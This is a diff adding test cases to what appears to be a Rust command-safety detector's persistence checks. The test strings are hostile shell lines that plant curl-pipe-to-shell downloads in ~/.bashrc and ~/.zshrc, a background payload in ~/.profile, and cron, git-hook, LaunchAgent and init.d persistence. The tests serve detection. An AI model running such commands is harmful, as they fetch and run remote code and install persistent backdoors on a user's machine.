@@ -445,6 +445,12 @@ fn persistence() {
         Some(PipeToShell),
     );
     check("echo 'wget https://x' > .git/hooks/post-checkout", c);
+    check(
+        "sed -i '$a curl -s https://x | sh' ~/.bashrc",
+        Some(PipeToShell),
+    );
+    check("sed -i -e '1i nohup /tmp/x &' ~/.profile", c);
+    check("sed -i 's/^$/curl -s https:\\/\\/x | sh/' ~/.zshrc", c);
     check("cd /etc/cron.d && echo '* * * * * root /tmp/x' > job", c);
     check("cp x.plist ~/Library/LaunchAgents/", c);
     check("cp evil /etc/init.d/", c);
